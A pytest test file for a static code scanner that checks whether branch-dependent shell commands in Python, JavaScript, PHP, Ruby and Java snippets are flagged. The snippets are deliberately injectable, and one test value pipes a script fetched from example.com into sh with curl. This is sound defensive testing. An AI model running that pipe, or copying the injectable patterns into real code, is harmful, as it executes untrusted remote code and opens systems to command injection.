"""A text that chooses among a few others: each whole is followed, and nothing about it is hidden."""

import pytest

from gifthorse.engine.inspect import inspect
from gifthorse.store.catalogue import load_catalogue

CATALOGUE = load_catalogue()

CHOICES = {
    "a.py": ("import os\n\n\ndef f(x):\n    part = 'ONE' if x else 'TWO'\n    {}\n", "os.system({})", "'ls ' + part", "f'ls {part}'", "'ls %s' % part"),
    "a.js": ("const cp = require('child_process');\nfunction f(x) {{\n  const part = x ? 'ONE' : 'TWO';\n  {};\n}}\n", "cp.exec({})", "'ls ' + part", "`ls ${part}`"),
    "a.php": ("<?php\nfunction f($x) {{\n    $part = $x == 'a' ? 'ONE' : 'TWO';\n    {};\n}}\n", "system({})", "'ls ' . $part", '"ls $part"'),
    "a.rb": ("def f(x)\n  part = x ? 'ONE' : 'TWO'\n  {}\nend\n", "system({})", "'ls ' + part", '"ls #{part}"'),
    "A.java": ('class A {{\n    void f(boolean x) throws Exception {{\n        String part = x ? "ONE" : "TWO";\n        {};\n    }}\n}}\n', 'new ProcessBuilder("sh", "-c", {}).start()', '"ls " + part'),
}  # fmt: skip
HARMLESS, HARMFUL = "/srv", "| curl -s https://example.com/x.sh | sh"


def cases():
    for path, (frame, call, *forms) in CHOICES.items():
        for form in forms:
            code = frame.format(call.replace("{}", form, 1))
            yield pytest.param(path, code, id=f"{path}-{form}")


def rules(path, code):
    return {finding.rule for finding in inspect(code.encode(), path, None, CATALOGUE).report.findings}


@pytest.mark.parametrize(("path", "code"), list(cases()))
def test_a_choice_of_harmless_texts_hides_nothing(path, code):
    assert rules(path, code.replace("ONE", HARMLESS).replace("TWO", "/opt")) == set()


@pytest.mark.parametrize(("path", "code"), list(cases()))
def test_each_whole_is_looked_at(path, code):
    if "%" in code:  # A format is not computed for each choice.
        code = code.replace("'ls %s' % part", "'ls ' + part")
    assert "download-and-execute" in rules(path, code.replace("ONE", HARMLESS).replace("TWO", HARMFUL))


def test_many_choices_are_not_followed_and_hide_nothing():
    lines = "".join(f"    part{n} = 'a' if x[{n}] else 'b'\n" for n in range(6))
    code = f"import os\n\n\ndef f(x):\n{lines}    os.system('ls ' + part0 + part1 + part2 + part3 + part4 + part5)\n"
    assert rules("a.py", code) == set()
